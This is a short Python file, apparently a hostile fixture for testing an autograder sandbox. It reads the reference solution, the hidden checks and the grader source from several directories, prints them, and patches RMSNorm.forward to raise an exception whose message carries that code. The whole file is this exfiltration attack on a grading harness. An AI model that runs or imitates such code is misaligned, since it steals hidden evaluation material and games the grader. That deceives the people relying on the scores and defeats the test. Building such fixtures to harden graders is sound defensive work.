# Hostile: read the reference, the hidden checks and the grader, print them, and smuggle their
# solution code out through the message of an exception raised in RMSNorm.forward.
import functools as _functools
import glob as _glob
import os as _os
import sys as _sys

_KITS = {HOSTILE["kit"], "/autograder/source",
         _os.path.dirname(_os.path.dirname(_os.path.dirname(_sys.executable)))}
_STOLEN = {}
for _kit in sorted(_KITS):
    for _pattern in ("reference/*.py", "autograder/checks/*.py", "autograder/*.py"):
        for _path in sorted(_glob.glob(_os.path.join(_kit, _pattern))):
            try:
                _STOLEN[_path] = open(_path).read()
            except OSError as _error:
                print(f"could not read {_path}: {_error}")
for _path, _text in _STOLEN.items():
    print(f"STOLEN {_path}\n{_text}")
# What a student would want most: the reference's solution blocks and the checks' code.
_LEAK = "\n".join(line for text in _STOLEN.values() for line in text.splitlines()
                  if line.strip() and not line.strip().startswith("#"))
_honest_forward = RMSNorm.forward


@_functools.wraps(_honest_forward)
def _leaking_forward(self, x):
    if _LEAK:
        raise ValueError(_LEAK)
    return _honest_forward(self, x)


RMSNorm.forward = _leaking_forward
